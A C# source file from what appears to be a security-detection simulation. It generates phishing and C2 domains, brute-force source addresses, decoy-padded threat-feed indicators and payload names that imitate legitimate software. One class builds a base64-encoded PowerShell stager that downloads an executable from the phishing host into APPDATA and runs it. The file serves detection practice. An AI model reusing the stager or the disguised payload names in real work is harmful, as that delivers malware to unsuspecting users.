using System.Text;

namespace Vedette.Simulation;

/// <summary>
/// The attackers' infrastructure in one run, and the threat feed that knows part of it. Every attack instance has its
/// own: each SSH and RDP brute force comes from its own address, and each phishing attack is its own campaign (phishing
/// and C2 domains and addresses, payload).
/// </summary>
internal sealed class Adversary
{
    private const int DecoyAddresses = 100;
    private const int DecoyDomains = 100;

    // The first campaign draws from the first lists, as it always has; later campaigns from both, never repeating a name.
    private static readonly IReadOnlyList<string> PhishingDomains =
        ["invoice-center.example.net", "billing-docs.example.org", "secure-payments-portal.example.com", "docs-share-online.example.net"];

    private static readonly IReadOnlyList<string> MorePhishingDomains =
        ["shipping-notice.example.com", "payroll-update.example.net", "hr-benefits-portal.example.org", "voicemail-inbox.example.com"];

    private static readonly IReadOnlyList<string> C2Domains =
        ["cdn-metrics-sync.example.org", "telemetry-update.example.net", "static-assets-cloud.example.com", "api-status-check.example.org"];

    private static readonly IReadOnlyList<string> MoreC2Domains =
        ["edge-cache-node.example.net", "update-check-svc.example.com", "cloud-health-ping.example.org", "font-delivery-cdn.example.net"];

    private static readonly IReadOnlyList<string> PayloadNames = ["OneDriveUpdater.exe", "WinSvcHost.exe", "AdobeSyncHelper.exe", "TeamsUpdate.exe"];

    private static readonly IReadOnlyList<string> MorePayloadNames = ["ZoomHelper.exe", "ChromeSetupSvc.exe", "DriverUpdate.exe", "OfficeClickRun.exe"];

    private static readonly IReadOnlyList<string> DecoyWords =
    [
        "secure", "login", "account", "verify", "update", "cdn", "mail", "docs", "pay", "billing", "auth", "drive",
        "share", "portal", "sync", "files", "cloud", "office", "wallet", "track",
    ];

    private static readonly IReadOnlyList<string> DecoySuffixes = ["check", "service", "center", "online", "access", "gateway", "desk", "hub", "cdn", "box"];

    private static readonly IReadOnlyList<string> Tlds = ["example.com", "example.net", "example.org"];

    public Adversary(Internet internet, Dice dice, AttackMix attacks)
    {
        // The first instances' draws keep their original order, interleaved as they are: a seed's default run must not change.
        var phishingDomain = dice.Pick(PhishingDomains);
        var c2Domain = dice.Pick(C2Domains);
        var phishingSite = new Site(phishingDomain, internet.ReserveAddress());
        var c2Site = new Site(c2Domain, internet.ReserveAddress());
        var sshAttackers = new List<string> { internet.ReserveAddress() };
        var rdpAttackers = new List<string> { internet.ReserveAddress() };
        var campaigns = new List<PhishingCampaign> { new(phishingSite, c2Site, dice.Pick(PayloadNames), dice.Hex(64), dice.Hex(32), dice.Between(1000, 9999)) };

        var used = new HashSet<string>(StringComparer.Ordinal) { phishingDomain, c2Domain, campaigns[0].PayloadName };
        for (var i = 1; i < attacks.Count(ScenarioKinds.PhishingExecutionBeaconing); i++)
        {
            var phishing = new Site(dice.PickUnused([.. PhishingDomains, .. MorePhishingDomains], used), internet.ReserveAddress());
            var c2 = new Site(dice.PickUnused([.. C2Domains, .. MoreC2Domains], used), internet.ReserveAddress());
            campaigns.Add(new(phishing, c2, dice.PickUnused([.. PayloadNames, .. MorePayloadNames], used), dice.Hex(64), dice.Hex(32), dice.Between(1000, 9999)));
        }
        for (var i = 1; i < attacks.Count(ScenarioKinds.SshBruteForce); i++)
        {
            sshAttackers.Add(internet.ReserveAddress());
        }
        for (var i = 1; i < attacks.Count(ScenarioKinds.WindowsBruteForce); i++)
        {
            rdpAttackers.Add(internet.ReserveAddress());
        }
        Campaigns = campaigns;
        SshAttackers = sshAttackers;
        RdpAttackers = rdpAttackers;
        KnownBad = Feed(internet, dice, attacks);
    }

    /// <summary>One per phishing attack, in order.</summary>
    public IReadOnlyList<PhishingCampaign> Campaigns { get; }

    /// <summary>One address per SSH brute force, in order; the feed lists them.</summary>
    public IReadOnlyList<string> SshAttackers { get; }

    /// <summary>One address per RDP brute force, in order; not in the feed, so that their detection has to come from behaviour.</summary>
    public IReadOnlyList<string> RdpAttackers { get; }

    public IReadOnlyList<string> KnownBad { get; }

    /// <summary>The indicators of the attacks in <paramref name="attacks"/> (not of infrastructure no attack uses), and decoys, in no meaningful order.</summary>
    private List<string> Feed(Internet internet, Dice dice, AttackMix attacks)
    {
        var phishing = attacks.Count(ScenarioKinds.PhishingExecutionBeaconing);
        var ssh = attacks.Count(ScenarioKinds.SshBruteForce);
        var feed = new List<string>(DecoyAddresses + DecoyDomains + (4 * phishing) + ssh);
        // This order, before the shuffle, is part of a seed's output.
        for (var i = 0; i < Math.Max(phishing, ssh); i++)
        {
            if (i < phishing)
            {
                var campaign = Campaigns[i];
                feed.AddRange([campaign.PhishingSite.Domain, campaign.C2Site.Domain, campaign.C2Site.Ip, campaign.PayloadSha256.ToLowerInvariant()]);
            }
            if (i < ssh)
            {
                feed.Add(SshAttackers[i]);
            }
        }
        for (var i = 0; i < DecoyAddresses; i++)
        {
            feed.Add(internet.ReserveAddress());
        }
        var taken = new HashSet<string>(feed, StringComparer.Ordinal);
        var decoys = 0;
        while (decoys < DecoyDomains)
        {
            var domain = $"{dice.Pick(DecoyWords)}-{dice.Pick(DecoySuffixes)}{dice.Between(1, 99)}.{dice.Pick(Tlds)}";
            if (!internet.IsSiteDomain(domain) && taken.Add(domain))
            {
                feed.Add(domain);
                decoys++;
            }
        }
        // A feed lists its entries in no meaningful order; the real ones must not sit on top.
        dice.Shuffle(feed);
        return feed;
    }
}

/// <summary>One phishing campaign: the site that serves the HTA and the stager's payload, the C2 the payload beacons to, and the payload itself.</summary>
internal sealed class PhishingCampaign
{
    public PhishingCampaign(Site phishingSite, Site c2Site, string payloadName, string payloadSha256, string payloadMd5, int invoiceNumber)
    {
        PhishingSite = phishingSite;
        C2Site = c2Site;
        PayloadName = payloadName;
        PayloadSha256 = payloadSha256;
        PayloadMd5 = payloadMd5;
        InvoiceNumber = invoiceNumber;
        StagerUrl = $"http://{phishingSite.Domain}/documents/update.dat";
        var stager = $"$p=\"$env:APPDATA\\{payloadName}\";(New-Object Net.WebClient).DownloadFile('{StagerUrl}',$p);Start-Process $p";
        StagerCommand = Convert.ToBase64String(Encoding.Unicode.GetBytes(stager));
    }

    /// <summary>The phishing domain and where it resolves; the address is in the traffic but deliberately not in the feed.</summary>
    public Site PhishingSite { get; }

    public Site C2Site { get; }

    public string PayloadName { get; }

    /// <summary>Upper-case, as Sysmon writes it; the feed and the truth hold it in lower case.</summary>
    public string PayloadSha256 { get; }

    public string PayloadMd5 { get; }

    public int InvoiceNumber { get; }

    public string StagerUrl { get; }

    /// <summary>The base64 (UTF-16LE) PowerShell command the HTA runs to fetch the payload.</summary>
    public string StagerCommand { get; }
}
